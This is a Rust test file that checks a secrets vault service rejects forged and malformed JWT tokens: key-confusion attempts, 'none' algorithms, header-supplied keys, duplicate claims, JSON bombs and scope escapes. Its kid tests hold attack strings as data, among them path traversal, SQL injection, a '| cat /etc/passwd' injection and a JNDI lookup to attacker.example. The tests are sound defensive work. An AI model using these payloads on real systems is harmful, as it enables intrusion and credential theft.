//! What an attacker makes of tokens beyond single wrong members (those are in `validation.rs`):
//! keys that are public, texts that are no compact JWS, bombs, and headers that say two things.

use axum::body::Body;
use axum::http::Request;
use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE, URL_SAFE_NO_PAD};
use rcgen::{KeyPair, PublicKeyData as _};
use serde_json::{Value, json};

use super::validation::{Forge, sign, sign_with, signing_input};
use crate::support::service::{GRANTS, GREETING, Vault};

/// A public key that anybody may have; its private half was thrown away.
const RSA_PUBLIC_KEY: &str = "-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAtR7PD37Ap67YMV9lN78x
RQWdsAej9UIToJg6zcUTEonIbMQfBQgAAnFUIf1QucxTdVfnXa68OG7yE8rRsrlI
3uC5m3Cvv0472mMmQHjHqhDIB2JVMXEKk62jzPXpvZCSC9XjE1hDUcmYktj4kC2Q
7TCOQfCNKBptXUg7IdrThPiZVR2z08u2+e34GVess52WDNB/3gr8J2kvZcPefnbK
zDfoh5enNfrfqjc/NGi6r9NEFhoUhCglT+MmlBip32gp6Q7TS+nJdZdQU9qIxsMz
LQWFC/lsv01zdyNnnzhY4ZPY2kGKEWFV3cqFQcr/Wwx/YPsXtoK9wsV4OUkx3kUA
2wIDAQAB
-----END PUBLIC KEY-----
";

/// The bytes in which a public key is likely to lie about, as somebody might take them for a
/// secret: PEM with and without its last line end, DER, and the base64 between the lines.
fn forms_of(pem: &str) -> Vec<Vec<u8>> {
    let lines = pem.lines().filter(|line| !line.starts_with("-----"));
    let inner: String = lines.collect();
    let der = STANDARD.decode(&inner).unwrap();
    vec![pem.into(), pem.trim_end().into(), pem.replace('\n', "\r\n").into(), der, inner.into()]
}

#[tokio::test]
async fn no_public_key_signs_a_token() {
    let forge = Forge::new().await;
    let of = |algorithm| KeyPair::generate_for(algorithm).unwrap();
    let elliptic = of(&rcgen::PKCS_ECDSA_P256_SHA256);
    let edwards = of(&rcgen::PKCS_ED25519);
    let mut keys = forms_of(RSA_PUBLIC_KEY);
    for pair in [&elliptic, &edwards] {
        keys.extend(forms_of(&pair.public_key_pem()));
        keys.push(pair.der_bytes().to_vec());
    }
    // What else is known to everybody: nothing at all, and the name of the key.
    keys.extend([vec![], vec![0; 32], forge.header["kid"].as_str().unwrap().into()]);
    for key in keys {
        for algorithm in ["HS256", "RS256", "ES256", "EdDSA"] {
            let mut header = forge.header.clone();
            header["alg"] = json!(algorithm);
            let token = sign_with(&key, &header.to_string(), &forge.claims.to_string());
            let expected = if algorithm == "HS256" { "token-signature" } else { "token-algorithm" };
            assert_eq!(forge.show(&token).await, expected, "{} bytes as {algorithm}", key.len());
        }
    }
}

#[tokio::test]
async fn a_kid_is_compared_and_never_looked_up_elsewhere() {
    let forge = Forge::new().await;
    let own = forge.header["kid"].as_str().unwrap().to_owned();
    for kid in [
        "",
        " ",
        "\0",
        "/dev/null",
        "../../../../proc/sys/kernel/randomize_va_space",
        "file:///dev/null",
        "https://attacker.example/key",
        "' OR '1'='1",
        "x' UNION SELECT 'AAAA",
        "| cat /etc/passwd",
        "${jndi:ldap://attacker.example/a}",
        &own.to_lowercase(),
        &own[1..],
        &format!("{own} "),
        &format!("{own}\0"),
        &own.repeat(100),
    ] {
        // Signed with the right key: the name alone is what is wrong.
        let kind = forge.header(|header| header["kid"] = json!(kid)).await;
        assert_eq!(kind, "token-unknown-key", "{kid:?}");
    }
    for kid in [json!(null), json!([own]), json!({"kid": own}), json!(true), json!(0)] {
        let kind = forge.header(|header| header["kid"] = kid.clone()).await;
        assert_eq!(kind, "token-header", "{kid}");
    }
}

#[tokio::test]
async fn a_header_that_brings_its_own_key_or_rules_is_refused() {
    let forge = Forge::new().await;
    let own_key = json!({"kty": "oct", "k": URL_SAFE_NO_PAD.encode([7; 32]), "alg": "HS256"});
    for (name, value) in [
        ("jwk", own_key.clone()),
        ("jku", json!("http://127.0.0.1/keys")),
        ("x5u", json!("http://127.0.0.1/chain.pem")),
        ("x5c", json!(["MIIB"])),
        ("x5t", json!("AAAA")),
        ("x5t#S256", json!("AAAA")),
        ("crit", json!([])),
        ("crit", json!(["b64"])),
        ("b64", json!(false)),
        ("zip", json!("DEF")),
        ("enc", json!("A256GCM")),
        ("Alg", json!("HS256")),
        ("alg ", json!("HS256")),
        ("", json!("")),
    ] {
        let mut header = forge.header.clone();
        header[name] = value;
        for key in [crate::support::service::SIGNING_KEY.as_bytes(), &[7; 32]] {
            let token = sign_with(key, &header.to_string(), &forge.claims.to_string());
            assert_eq!(forge.show(&token).await, "token-header", "{name}");
        }
    }
}

#[tokio::test]
async fn an_algorithm_is_one_text() {
    let forge = Forge::new().await;
    for algorithm in
        ["nOnE", "NONE", "none ", "HS256 ", " HS256", "HS256\0", "HS384", "PS256", "dir", "A128KW"]
    {
        let kind = forge.header(|header| header["alg"] = json!(algorithm)).await;
        assert_eq!(kind, "token-algorithm", "{algorithm:?}");
    }
    for algorithm in [json!(null), json!(["HS256"]), json!({"HS256": null}), json!(256)] {
        let kind = forge.header(|header| header["alg"] = algorithm.clone()).await;
        assert_eq!(kind, "token-algorithm", "{algorithm}");
    }
    let remove = |header: &mut Value| drop(header.as_object_mut().unwrap().remove("alg"));
    assert_eq!(forge.header(remove).await, "token-header");
}

#[tokio::test]
async fn members_that_are_there_twice_are_refused_whatever_they_say() {
    let forge = Forge::new().await;
    let (header, claims) = (forge.header.to_string(), forge.claims.to_string());
    // Whose last `alg` is another one is refused for that already.
    for (member, first, last) in [
        (r#""alg":"HS256""#, "token-header", "token-header"),
        (r#""alg":"none""#, "token-header", "token-algorithm"),
        (r#""\u0061lg":"HS256""#, "token-header", "token-header"),
        (r#""typ":"vanta-at+jwt""#, "token-header", "token-header"),
        (r#""kid":"x""#, "token-header", "token-header"),
    ] {
        for (twice, expected) in [
            (header.replacen('{', &format!("{{{member},"), 1), first),
            (header.replacen('}', &format!(",{member}}}"), 1), last),
        ] {
            assert_eq!(forge.show(&sign(&twice, &claims)).await, expected, "{twice}");
        }
    }
    for member in [
        r#""sub":"client:ci""#,
        r#""\u0073ub":"client:admin""#,
        r#""jti":"00000000000000000000000000000000""#,
        r#""iat":1"#,
        r#""usage_limit":1,"usage_limit":2"#,
        r#""scope":{"environment":"dev","key_pattern":"*","permissions":["read"],"granted":{}}"#,
    ] {
        let end = claims.rfind('}').unwrap();
        let twice = format!("{},{member}}}", &claims[..end]);
        assert_eq!(forge.claims_text(&twice).await, "token-claims", "{twice}");
    }
    let granted = claims.replacen(r#""granted":{"#, r#""granted":{"read":["*"],"#, 1);
    assert_ne!(granted, claims);
    assert_eq!(forge.claims_text(&granted).await, "token-claims");
}

#[tokio::test]
async fn numbers_that_are_no_whole_seconds_are_refused() {
    let forge = Forge::new().await;
    let claims = forge.claims.to_string();
    for name in ["exp", "nbf", "iat"] {
        let member = format!("\"{name}\":{}", forge.claims[name]);
        assert_eq!(claims.matches(&member).count(), 1);
        for number in [
            format!("\"{}\"", forge.claims[name]),
            format!("{}.0", forge.claims[name]),
            format!("{}e0", forge.claims[name]),
            "1e400".to_owned(),
            "-1".to_owned(),
            "-0".to_owned(),
            "0".to_owned(),
            "9223372036854775807".to_owned(),
            "9223372036854775808".to_owned(),
            "18446744073709551616".to_owned(),
            "1".repeat(400),
            "NaN".to_owned(),
            "Infinity".to_owned(),
            "0x7fffffff".to_owned(),
            "[1]".to_owned(),
            "true".to_owned(),
        ] {
            let text = claims.replace(&member, &format!("\"{name}\":{number}"));
            assert_eq!(forge.claims_text(&text).await, "token-claims", "{name} = {number}");
        }
    }
    for number in ["-1", "1.0", "1.5", "4294967296", "\"1\"", "[]"] {
        let text = claims.replacen('{', &format!("{{\"usage_limit\":{number},"), 1);
        let text = text.replace(",\"usage_limit\":1000", "");
        assert_eq!(forge.claims_text(&text).await, "token-claims", "usage_limit = {number}");
    }
}

#[tokio::test]
async fn bombs_are_refused_and_cost_nothing_worth_naming() {
    let forge = Forge::new().await;
    let (header, claims) = (forge.header.to_string(), forge.claims.to_string());
    // A token has 16 KiB, so 12 KiB before base64.
    let (arrays, objects) = ("[".repeat(5000), r#"{"a":"#.repeat(1500));
    for bomb in [arrays.clone(), objects.clone(), format!(r#"{{"alg":{arrays}"#)] {
        let kind = forge.show(&sign(&bomb, &claims)).await;
        assert_eq!(kind, "token-malformed", "{bomb:.20}");
    }
    let closed = format!("{}{}", "[".repeat(3000), "]".repeat(3000));
    for bomb in [
        arrays,
        objects,
        closed.clone(),
        claims.replacen('{', &format!(r#"{{"x":{closed},"#), 1),
        claims.replacen(r#""scope":{"#, &format!(r#""scope":{{"x":{closed},"#), 1),
        claims.replacen('{', &format!("{{{}", "\"a\":1,".repeat(1000)), 1),
        claims.replacen(r#"["read""#, &format!(r#"["{}""#, "\\u0000".repeat(1000)), 1),
    ] {
        assert_eq!(forge.claims_text(&bomb).await, "token-claims", "{bomb:.20}");
    }
    // Too long is refused before anything of it is read.
    let long = claims.replacen('{', &format!("{{\"x\":\"{}\",", "y".repeat(16_000)), 1);
    assert_eq!(forge.show(&sign(&header, &long)).await, "token-malformed");
}

#[tokio::test]
async fn only_three_parts_of_base64url_are_a_token() {
    let forge = Forge::new().await;
    let (header, claims) = (forge.header.to_string(), forge.claims.to_string());
    let good = sign(&header, &claims);
    let parts: Vec<&str> = good.split('.').collect();
    let [head, body, signature] = parts[..] else { panic!("a token has three parts") };
    let encrypted = |algorithm: &str| {
        let header = json!({"alg": algorithm, "enc": "A256GCM", "typ": "vanta-at+jwt"});
        let header = URL_SAFE_NO_PAD.encode(header.to_string());
        format!("{header}.{}.{}.{body}.{}", "A".repeat(43), "A".repeat(16), "A".repeat(22))
    };
    let as_json = json!({"payload": body, "protected": head, "signature": signature}).to_string();
    let as_general_json = json!({
        "payload": body, "signatures": [{"protected": head, "signature": signature}],
    });
    for (what, text) in [
        ("a JWE", encrypted("dir")),
        ("another JWE", encrypted("A256KW")),
        ("a JWS as JSON", as_json),
        ("a JWS as general JSON", as_general_json.to_string()),
        ("two dots too many", format!("{good}..")),
        ("a token twice", format!("{good}.{good}")),
        ("a dot before", format!(".{good}")),
        ("no header", format!(".{body}.{signature}")),
        ("no signature and no dot", format!("{head}.{body}")),
        ("a header with padding", format!("{head}=.{body}.{signature}")),
        ("a header in base64", format!("{head}+/.{body}.{signature}")),
        ("a space in the header", format!("{head} .{body}.{signature}")),
        ("a tab before", format!("\t{good}")),
        ("quotes around it", format!("\"{good}\"")),
        ("two tokens", format!("{good}, Bearer {good}")),
        ("two schemes", format!("Bearer {good}")),
    ] {
        assert_eq!(forge.show(&text).await, "token-malformed", "{what}");
    }
    // What comes after the header is read by whoever holds the key alone, so it is the signature
    // that is wrong, or what cannot be one.
    for (what, text, expected) in [
        ("padding behind", format!("{good}="), "token-claims"),
        ("padding in the claims", format!("{head}.{body}=.{signature}"), "token-signature"),
        ("a space behind the claims", format!("{head}.{body} .{signature}"), "token-signature"),
        (
            "the claims and signature exchanged",
            format!("{head}.{signature}.{body}"),
            "token-signature",
        ),
        ("no claims", format!("{head}..{signature}"), "token-signature"),
        ("no signature", format!("{head}.{body}."), "token-signature"),
        ("half of the signature", format!("{head}.{body}.{}", &signature[..20]), "token-signature"),
        ("more signature", format!("{good}AAAA"), "token-signature"),
        ("a tab behind", format!("{good}\t."), "token-malformed"),
    ] {
        assert_eq!(forge.show(&text).await, expected, "{what}");
    }
    // Spellings that decode to the same bytes are other texts, and were not signed.
    let padded = |part: &str| URL_SAFE.encode(URL_SAFE_NO_PAD.decode(part).unwrap());
    for text in [
        format!("{}.{body}.{signature}", padded(head)),
        format!("{head}.{body}.{}", padded(signature)),
    ] {
        if text != good {
            assert_ne!(forge.show(&text).await, "accepted");
        }
    }
    let mut last = signature.to_owned();
    let changed = if last.pop() == Some('B') { 'C' } else { 'B' };
    assert_ne!(forge.show(&format!("{head}.{body}.{last}{changed}")).await, "accepted");
    // Another order of the same members is another text, too, though the vault takes what it signed.
    let unsigned = signing_input(&header, &format!("{claims} "));
    assert_eq!(forge.show(&format!("{unsigned}.{signature}")).await, "token-signature");
}

/// What comes of these Authorization headers.
async fn authorized(vault: &Vault, headers: &[&[u8]]) -> String {
    let mut request = Request::get("/api/v1/vault/dev/GREETING");
    for header in headers {
        request = request.header("authorization", *header);
    }
    let reply = vault.send(request.body(Body::empty()).unwrap()).await;
    if reply.status == 200 {
        return "accepted".to_owned();
    }
    assert!(!reply.text.contains(GREETING), "a refusal holds the value");
    reply.problem()
}

#[tokio::test]
async fn one_authorization_header_says_one_thing() {
    let vault = Vault::start().await;
    let token = vault.token_with(json!({"environment": "dev", "key_pattern": "GREETING"})).await;
    let (bearer, basic) = (format!("Bearer {token}"), vault.basic());
    let (bearer, basic) = (bearer.as_bytes(), basic.as_bytes());
    assert_eq!(authorized(&vault, &[bearer]).await, "accepted");
    let lower = format!("bearer   {token} ");
    assert_eq!(authorized(&vault, &[lower.as_bytes()]).await, "accepted", "RFC 9110 11.1, 11.4");
    for (case, (headers, expected)) in [
        (vec![], "credentials-missing"),
        (vec![bearer, bearer], "invalid-request"),
        (vec![bearer, basic], "invalid-request"),
        (vec![basic, bearer], "invalid-request"),
        (vec![b"".as_slice(), bearer], "invalid-request"),
        (vec![bearer, b"".as_slice()], "invalid-request"),
        (vec![basic], "credentials-missing"),
        (vec![b"".as_slice()], "invalid-request"),
        (vec![b"Bearer".as_slice()], "invalid-request"),
        (vec![b"Bearer ".as_slice()], "token-malformed"),
        (vec![token.as_bytes()], "invalid-request"),
        (vec![b"Bearer \xff\xfe".as_slice()], "invalid-request"),
        (vec![b"Digest username=\"ci\"".as_slice()], "credentials-missing"),
    ]
    .into_iter()
    .enumerate()
    {
        assert_eq!(authorized(&vault, &headers).await, expected, "case {case}");
    }
    let tabbed = format!("Bearer\t{token}");
    assert_eq!(authorized(&vault, &[tabbed.as_bytes()]).await, "invalid-request");
    // RFC 6750's other two places are none here.
    let reply = vault.read(&format!("dev?access_token={token}"), "x", &[]).await;
    assert_eq!(reply.problem(), "token-malformed");
    let request = Request::get(format!("/api/v1/vault/dev/GREETING?access_token={token}"));
    let reply = vault.send(request.body(Body::empty()).unwrap()).await;
    assert_eq!(reply.problem(), "credentials-missing");
}

#[tokio::test]
async fn a_real_token_reads_its_own_environment_and_whole_keys_alone() {
    let vault = Vault::start().await;
    let everywhere = GRANTS.replace("environment: gone", "environment: prod");
    vault.grant(&everywhere);
    let of = |environment: &'static str, pattern: &'static str| {
        vault.token_with(json!({"environment": environment, "key_pattern": pattern}))
    };
    let prod = of("prod", "*").await;
    assert_eq!(vault.read("prod/GREETING", &prod, &[]).await.status, 200);
    let dev = of("dev", "APP_*").await;
    let user = of("dev", "APP_DB_USER").await;
    assert_eq!(vault.read("dev/APP_DB_USER", &user, &[]).await.status, 200);
    for (path, token) in [
        ("dev/GREETING", &prod),
        ("dev?values=true", &prod),
        ("prod/APP_DB_USER", &dev),
        ("prod?values=true", &dev),
        ("dev/GREETING", &dev),
        ("dev/APP_DB_PASSWORD", &user),
        ("dev/APP_DB_USER_2", &user),
        ("dev/APP_DB", &user),
        ("dev/app_db_user", &user),
    ] {
        let reply = vault.read(path, token, &[]).await;
        assert_eq!(reply.problem(), "out-of-scope", "{path}");
        assert!(!reply.text.contains(GREETING));
    }
}
